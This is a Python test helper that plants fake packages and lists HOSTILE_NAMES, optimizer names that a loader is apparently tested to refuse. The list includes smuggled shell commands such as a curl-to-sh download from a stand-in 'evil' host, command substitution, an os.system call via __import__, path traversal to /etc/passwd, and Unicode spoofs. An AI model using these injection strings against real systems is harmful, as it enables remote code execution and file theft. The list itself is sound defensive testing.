"""Packages that a test plants: where pip installs, or where nothing should ever be imported from."""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path

Library = Callable[[str, str], Path]
"""writes a package of a name with a text where pip installs, for one test"""


def marking(marker: Path, then: str = "") -> str:
    """Returns the text of a module that leaves a file behind when it is imported."""
    return f"import pathlib\npathlib.Path({str(marker)!r}).touch()\n{then}\n"


def plant(folder: Path, name: str, text: str) -> Path:
    """Writes a package; returns its file. A name with dots is a module in it, of which every folder is a package."""
    *above, last = name.split(".")
    for part in above:
        folder = folder / part
        folder.mkdir(parents=True, exist_ok=True)
        if not (folder / "__init__.py").exists():
            (folder / "__init__.py").touch()
    file = folder / last / "__init__.py"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")
    return file


def forget(name: str) -> dict[str, object]:
    """Takes a package and its files out of `sys.modules`; returns them, to be put back."""
    found = [one for one in sys.modules if one == name or one.startswith(f"{name}.")]
    return {one: sys.modules.pop(one) for one in found}


HOSTILE_NAMES = (
    *("input.evil.X", "temp.evil.X", "output.evil.X", "user.evil.X", "models.evil.X", "custom_nodes.evil.X", "evil"),
    *("certifi.__main__.X", "numpy.f2py.__main__.X", "torch.utils.model_dump.__main__.X", "main.X", "nodes.X"),
    *("server.PromptServer", "execution.PromptExecutor", "folder_paths.base_path", "comfy.cli_args.args"),
    *("os.system", "builtins.exit", "builtins.eval", "sys.exit", "subprocess.Popen", "__main__.X", "this.X"),
    *("antigravity.X", "posix._exit", "ctypes.CDLL", "runpy.run_path", "torch.hub.load", "torch.load", "torch.X"),
    *("torch.optimize.X", "torch.optim", "torch.optim.", "torch..optim.SGD", ".torch.optim.SGD", "torch.optim.SGD."),
    *("pytorch_optimizer", "pytorch_optimizer.", "pytorch_optimizer.../../x", "pytorch_optimizer./etc/passwd.X"),
    *("pytorch_optimizer.Adan()", "pytorch_optimizer.Adan\n", "pytorch_optimizer.Adan\0", "pytorch_optimizer. Adan"),
    *(" pytorch_optimizer.Adan", "pytorch_optimizerx.Adan", "PYTORCH_OPTIMIZER.Adan", "pytorch_optimizer:Adan"),
    *(
        "pytorch_optimizer.\u0410dan",
        "pytorch_\uff4fptimizer.Adan",
        "p\u0443torch_optimizer.Adan",
        "\u202etorch.optim.SGD",
    ),
    *("pytorch_optimizer.a-b.X", "torchao.X", "torchao.prototype.X", "bitsandbytes.nn.X", "bitsandbytes.X"),
    *('a" ; curl evil | sh ; "b.X', "$(touch x).X", "`touch x`.X", "-e.X", "--index-url=http://x.X", "a&&b.X"),
    *("torch.optim." + "X" * 1_000_000, "x." * 500_000 + "X", "." * 1000, "torch.optim.1", "torch.optim.None.X."),
    *("lambda:0", "__import__('os').system('x')", "{0.__class__}", "%s.%s", "../../input/evil.X", "C:\\evil.X"),
)
"""what a graph or a file may call an optimizer; each is refused by its text"""
